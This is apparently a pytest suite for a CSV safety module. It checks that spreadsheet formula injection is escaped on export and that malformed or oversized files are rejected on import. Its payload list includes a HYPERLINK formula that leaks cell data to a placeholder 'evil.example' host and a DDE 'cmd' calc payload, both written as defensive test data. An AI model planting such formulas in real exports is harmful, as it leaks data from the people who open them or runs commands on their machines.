"""CSV formula injection on export and hostile, malformed or oversized CSV on import."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from decimal import Decimal

import pytest

from tandem.platform.safety import TooLarge, UnsafeInput, escape_cell, iter_csv, read_csv, write_csv

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "-2+3",
    "=1+1",
    "\r=cmd",
    "\0=1",
    "-",
]


@pytest.mark.asvs("V1.2.10")
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_escape_cell_defuses_formula_payloads(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload


@pytest.mark.asvs("V1.2.10")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-12.5, "-12.5"),
        (-7, "-7"),
        (Decimal("-3.10"), "-3.10"),
        (0, "0"),
        (None, ""),
        ("web01", "web01"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'=already", "'=already"),
        ("-12.5", "'-12.5"),
    ],
)
def test_escape_cell_keeps_real_numbers_and_plain_text(value: object, expected: str) -> None:
    assert escape_cell(value) == expected


@pytest.mark.asvs("V1.2.10")
def test_write_csv_escapes_every_cell_including_the_header() -> None:
    text = write_csv([[p, -1.5] for p in FORMULA_PAYLOADS], ["=name", "delta"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=name", "delta"]
    for row, payload in zip(rows[1:], FORMULA_PAYLOADS, strict=True):
        assert row == ["'" + payload, "-1.5"]


@pytest.mark.asvs("V1.2.10")
def test_write_csv_follows_rfc4180_quoting() -> None:
    text = write_csv([['say "hi"', "a,b", "two\nlines"]], ["q", "c", "n"])
    assert text == 'q,c,n\r\n"say ""hi""","a,b","two\nlines"\r\n'


def test_write_csv_rejects_ragged_rows() -> None:
    with pytest.raises(ValueError, match="header has 2"):
        write_csv([["only one"]], ["a", "b"])


@pytest.mark.asvs("V1.2.10")
def test_iter_csv_streams_without_consuming_everything() -> None:
    def endless() -> Iterator[list[object]]:
        for i in itertools.count():
            yield [f"=cmd{i}", i]

    first = next(iter_csv(endless(), ["name", "n"]))
    assert first.startswith("name,n\r\n'=cmd0,0\r\n")


def test_iter_csv_chunks_join_to_write_csv() -> None:
    rows = [[f"host-{i}", "@evil", i * -1] for i in range(20_000)]
    chunks = list(iter_csv(rows, ["host", "tag", "n"]))
    assert len(chunks) > 1
    assert "".join(chunks) == write_csv(rows, ["host", "tag", "n"])


@pytest.mark.asvs("V1.2.10")
def test_formula_payloads_survive_import_and_are_defused_on_reexport() -> None:
    source = write_csv([[p] for p in FORMULA_PAYLOADS[:5]], ["name"])
    imported = read_csv(source, "in.csv", required={"name"})
    assert [row["name"] for row in imported] == ["'" + p for p in FORMULA_PAYLOADS[:5]]


def test_read_csv_parses_bom_and_quoted_fields() -> None:
    data = b'\xef\xbb\xbfname,owner\r\nweb01,"Ops, EU"\r\n\r\n"db\n01",dba\r\n'
    rows = read_csv(data, "assets.csv", required={"name"}, allowed={"name", "owner"})
    assert rows == [{"name": "web01", "owner": "Ops, EU"}, {"name": "db\n01", "owner": "dba"}]


def test_read_csv_rejects_invalid_utf8_with_location() -> None:
    data = b"name,owner\nweb01,ops\nweb02,S\xe9curit\xe9\n"
    with pytest.raises(UnsafeInput) as err:
        read_csv(data, "assets.csv")
    assert err.value.location == "assets.csv:3:8"
    assert "UTF-8" in err.value.reason


@pytest.mark.parametrize("data", ["", "\n\n", b"\xef\xbb\xbf"])
def test_read_csv_requires_a_header(data: str | bytes) -> None:
    with pytest.raises(UnsafeInput, match="no header") as err:
        read_csv(data, "empty.csv")
    assert err.value.location == "empty.csv:1:1"


def test_read_csv_names_unknown_columns() -> None:
    with pytest.raises(UnsafeInput) as err:
        read_csv("name,password,ssn\n", "a.csv", allowed={"name"})
    assert err.value.reason == "unknown column(s): password, ssn"
    assert err.value.location == "a.csv:1:2"


def test_read_csv_names_missing_columns() -> None:
    with pytest.raises(UnsafeInput) as err:
        read_csv("owner\nops\n", "a.csv", required={"name", "criticality"}, allowed={"owner"})
    assert err.value.reason == "missing required column(s): criticality, name"


def test_read_csv_names_duplicate_columns() -> None:
    with pytest.raises(UnsafeInput) as err:
        read_csv("name,owner,name\n", "a.csv")
    assert "'name'" in err.value.reason
    assert err.value.location == "a.csv:1:3"


def test_read_csv_rejects_empty_column_names() -> None:
    with pytest.raises(UnsafeInput, match="empty column name"):
        read_csv("name,,owner\n", "a.csv")


@pytest.mark.asvs("V5.2.1")
def test_read_csv_rejects_too_many_rows_at_the_offending_line() -> None:
    text = "name\n" + "".join(f"h{i}\n" for i in range(11))
    with pytest.raises(TooLarge) as err:
        read_csv(text, "a.csv", max_rows=10)
    assert err.value.location == "a.csv:12:1"


@pytest.mark.asvs("V5.2.1")
def test_read_csv_locates_an_overlong_field_after_multiline_records() -> None:
    text = 'name,notes\nweb01,"line one\nline two"\nweb02,' + "x" * 101 + "\n"
    with pytest.raises(TooLarge) as err:
        read_csv(text, "a.csv", max_field=100)
    assert err.value.location == "a.csv:4:2"


@pytest.mark.asvs("V5.2.1")
def test_read_csv_locates_an_overlong_field_inside_a_multiline_record() -> None:
    text = 'name,notes\n"multi\nline",' + '"' + "y" * 50 + "\n" + "y" * 60 + '"\n'
    with pytest.raises(TooLarge) as err:
        read_csv(text, "a.csv", max_field=100)
    assert err.value.location == "a.csv:3:2"


@pytest.mark.asvs("V5.2.1")
def test_read_csv_survives_a_field_beyond_the_csv_module_limit() -> None:
    text = "name\n" + "z" * (csv.field_size_limit() + 10) + "\n"
    with pytest.raises(TooLarge):
        read_csv(text, "a.csv", max_field=csv.field_size_limit() * 2)


@pytest.mark.parametrize(
    ("text", "location"),
    [
        ("name,owner\nweb01\n", "a.csv:2:2"),
        ("name,owner\nweb01,ops,extra\n", "a.csv:2:3"),
        ("name,owner\nweb01,o\x00ps\n", "a.csv:2:2"),
        ('name,owner\nweb01,"ops"x\n', "a.csv:2"),
        ('name,owner\nweb01,"never closed\n', "a.csv:2"),
    ],
    ids=["too-few", "too-many", "nul", "bad-quote", "unterminated"],
)
def test_read_csv_reports_malformed_rows_with_location(text: str, location: str) -> None:
    with pytest.raises(UnsafeInput) as err:
        read_csv(text, "a.csv")
    assert err.value.location == location


def test_read_csv_counts_lines_for_bare_cr_files() -> None:
    with pytest.raises(UnsafeInput) as err:
        read_csv("name\rweb01\rweb02,extra\r", "mac.csv")
    assert err.value.location == "mac.csv:3:2"
